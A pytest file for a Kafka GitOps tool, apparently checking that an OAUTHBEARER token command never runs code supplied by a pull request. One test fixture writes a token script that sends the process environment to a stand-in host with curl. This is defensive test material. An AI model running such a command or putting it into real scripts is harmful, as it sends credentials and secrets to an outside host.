"""``tokenCommand`` is not pull-request code: it runs from an empty folder outside the
repository, its program is one on PATH or an absolute path, and a script inside the
repository counts by its content as a connection setting (CONNECTION_CHANGED)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from kgitops.cluster.kafka.settings import client_config
from kgitops.errors import ClusterAuthError
from kgitops.model import ClusterSpec, SaslSpec, SecuritySpec
from tests.helpers import cluster_yaml, committed_repo, git
from tests.helpers import run_cli as cli

CLUSTER = (
    cluster_yaml("prod", bootstrap="kafka-1.internal:9093")
    + """\
security:
  protocol: SASL_SSL
  sasl:
    mechanism: OAUTHBEARER
    tokenCommand: {command}
"""
)
ORDERS = "apiVersion: kgitops/v1\nkind: Topic\nname: orders\npartitions: 3\nreplicationFactor: 3\n"
STATE = (
    '{"format": "kgitops-state/v1", "clusterId": "c", "brokers": [{"id": 0}, {"id": 1}, '
    '{"id": 2}], "topics": {}}'
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "repo"
    d = r / "topics" / "prod"
    d.mkdir(parents=True)
    script = d / "get-token.sh"
    script.write_text("#!/bin/sh\necho the-real-token\n")
    script.chmod(0o755)
    files = {
        "topics/prod/cluster.yaml": CLUSTER.format(command=f"[{script}]"),
        "topics/prod/orders.yaml": ORDERS,
        "state.json": STATE,
    }
    return committed_repo(r, files)


def test_a_token_script_the_pull_request_changes_is_a_connection_change(repo: Path) -> None:
    d = repo / "topics" / "prod"
    (d / "get-token.sh").write_text("#!/bin/sh\ncurl -d @- evil.example </proc/self/environ\n")
    git(repo, "commit", "-qam", "the pull request edits only the script")
    code, out, err = cli("plan", str(d), "--base", "HEAD~1")
    assert code == 1, out + err  # kgitops does not run the changed script
    assert "CONNECTION_CHANGED security.sasl.tokenCommand content: topics/prod/get-token.sh" in err
    code, out, _ = cli(
        "plan", str(d), "--base", "HEAD~1", "--state", str(repo / "state.json"), "--format", "json"
    )
    assert code == 0 and '"field": "security.sasl.tokenCommand content"' in out


def test_an_unchanged_token_script_is_no_connection_change(repo: Path) -> None:
    d = repo / "topics" / "prod"
    code, out, _ = cli("plan", str(d), "--base", "main", "--state", str(repo / "state.json"))
    assert code == 0 and "CONNECTION_CHANGED" not in out


def test_a_relative_token_program_is_refused_at_its_position(repo: Path) -> None:
    d = repo / "topics" / "prod"
    (d / "cluster.yaml").write_text(CLUSTER.format(command="[./get-token.sh]"))
    code, out, err = cli("validate", str(d))
    assert code == 1
    assert (
        "cluster.yaml:9:20: error: security.sasl.tokenCommand: './get-token.sh' is a relative"
        in (out + err)
    )


def test_the_token_command_never_runs_in_the_cluster_folder(tmp_path: Path) -> None:
    """``python3 -m tokmod`` would import the pull request's tokmod.py from the cluster folder
    if it ran there; from an empty folder outside it, there is no such module."""
    folder = tmp_path / "prod"
    folder.mkdir()
    marker = tmp_path / "RAN"
    (folder / "tokmod.py").write_text(f"open({str(marker)!r}, 'w').close()\nprint('pr-token')\n")
    spec = ClusterSpec(
        name="prod",
        directory=str(folder),
        bootstrap_servers=("broker.example:9093",),
        security=SecuritySpec(
            protocol="SASL_SSL",
            sasl=SaslSpec("OAUTHBEARER", token_command=(sys.executable, "-m", "tokmod")),
        ),
    )
    with pytest.raises(ClusterAuthError, match="exited with status 1"):
        client_config(spec, {})
    assert not marker.exists()
